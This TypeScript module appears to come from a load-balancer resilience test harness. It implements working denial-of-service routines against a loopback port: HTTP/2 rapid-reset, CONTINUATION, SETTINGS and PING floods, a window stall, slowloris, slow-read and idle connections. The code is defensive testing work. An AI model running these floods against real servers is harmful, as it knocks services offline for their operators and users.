/** What clients do to a balancer that do not want an answer; each until the process ends. */
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { frame, get, openHeaders, PREFACE, resetGet, setting, windowOf } from './http2-frames.ts';
import { limits } from './limits.ts';

/** An attack on a port of the loopback. */
export interface Attack {
  readonly name: string;
  readonly what: string;
  /** How long before it is measured it begins, in milliseconds. */
  readonly leadMs: number;
  run(port: number): void;
}

/** Keeps so many connections open; `open` is called for each, and again for its successor. */
function keepOpen(count: number, port: number, open: (socket: Socket) => void): void {
  const once = () => {
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    socket.on('error', () => {});
    socket.on('connect', () => open(socket));
    socket.on('close', () => setTimeout(once, limits.reconnectEveryMs));
    // What comes is of no interest, but has to be taken.
    socket.resume();
  };
  for (let index = 0; index < count; index++) setTimeout(once, index);
}

/** Speaks HTTP/2 and floods with what `next` makes, `count` times each turn. */
function flood(count: number, next: (turn: number) => Buffer): (port: number) => void {
  return (port) =>
    keepOpen(limits.floodConnections, port, (socket) => {
      socket.write(Buffer.concat([PREFACE, frame('settings', 0, 0)]));
      let turn = 0;
      const timer = setInterval(() => {
        if (socket.writableLength > 0) return;
        const pieces: Buffer[] = [];
        for (let index = 0; index < count; index++) pieces.push(next(turn++));
        socket.write(Buffer.concat(pieces));
      }, limits.floodEveryMs);
      socket.on('close', () => clearInterval(timer));
    });
}

/** Opens many connections one after the other, some at a time, and does something with each. */
async function many(count: number, port: number, use: (socket: Socket) => void): Promise<void> {
  for (let index = 0; index < count; index++) {
    const socket = connect({ port, host: '127.0.0.1' });
    socket.on('error', () => {});
    socket.on('connect', () => use(socket));
    if (index % 50 === 49) await delay(5);
  }
}

const SLOW = 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ';
const LARGE = `GET /large HTTP/1.1\r\nHost: x\r\n\r\n`;

export const attacks: readonly Attack[] = [
  {
    name: 'rapid-reset',
    what: 'requests over HTTP/2 that are given up at once',
    leadMs: limits.floodLeadMs,
    run: flood(50, (turn) => resetGet(2 * turn + 1)),
  },
  {
    name: 'continuation',
    what: 'heads over HTTP/2 that never end',
    leadMs: limits.floodLeadMs,
    run: flood(50, (turn) =>
      turn === 0 ? openHeaders(1) : frame('continuation', 0, 1, Buffer.from([0x40, 1, 97, 1, 98])),
    ),
  },
  {
    name: 'settings',
    what: 'SETTINGS without end',
    leadMs: limits.floodLeadMs,
    run: flood(50, () => setting(3, 100)),
  },
  {
    name: 'ping',
    what: 'PING without end',
    leadMs: limits.floodLeadMs,
    run: flood(50, () => frame('ping', 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'window-stall',
    what: 'large answers over HTTP/2 with windows of one byte',
    leadMs: limits.stillLeadMs,
    run: (port) =>
      keepOpen(limits.floodConnections, port, (socket) => {
        const requests = Array.from({ length: 16 }, (_, index) => get(2 * index + 1, '/large'));
        socket.write(Buffer.concat([PREFACE, windowOf(1), ...requests]));
      }),
  },
  {
    name: 'slowloris',
    what: `${limits.slowClients} heads, a byte every 100 ms each`,
    leadMs: limits.stillLeadMs,
    run: (port) => {
      void many(limits.slowClients, port, (socket) => {
        socket.resume();
        socket.write(SLOW);
        const timer = setInterval(() => socket.write('x'), 100);
        socket.on('close', () => clearInterval(timer));
      });
    },
  },
  {
    name: 'slow-read',
    what: `${limits.deafClients} large answers that nobody reads`,
    leadMs: limits.stillLeadMs,
    run: (port) => {
      void many(limits.deafClients, port, (socket) => {
        socket.pause();
        socket.write(LARGE);
      });
    },
  },
  {
    name: 'idle',
    what: `${limits.idleClients} connections that do nothing`,
    leadMs: limits.stillLeadMs,
    run: (port) => {
      void many(limits.idleClients, port, () => {});
    },
  },
];
